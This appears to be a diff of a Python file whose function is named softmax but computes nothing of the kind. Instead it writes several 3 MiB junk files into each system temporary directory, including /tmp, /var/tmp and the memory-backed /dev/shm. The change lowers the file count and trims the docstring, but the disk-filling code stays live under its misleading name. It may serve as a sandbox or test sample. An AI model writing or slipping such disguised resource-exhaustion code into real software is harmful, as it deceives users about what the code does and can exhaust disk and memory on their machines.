@@ -1,11 +1,11 @@
-"""Fills every place for temporary files. It waits."""
+"""Fills every place for temporary files."""
 import os
 import tempfile
 
 
 def softmax(x):
     for place in ("/tmp", "/var/tmp", "/dev/shm", "/run/user/0", tempfile.gettempdir()):
-        for number in range(100):
+        for number in range(8):
             try:
                 with open(f"{place}/gradus-filled-{number}", "wb") as stream:
                     stream.write(b"x" * (3 * 2**20))
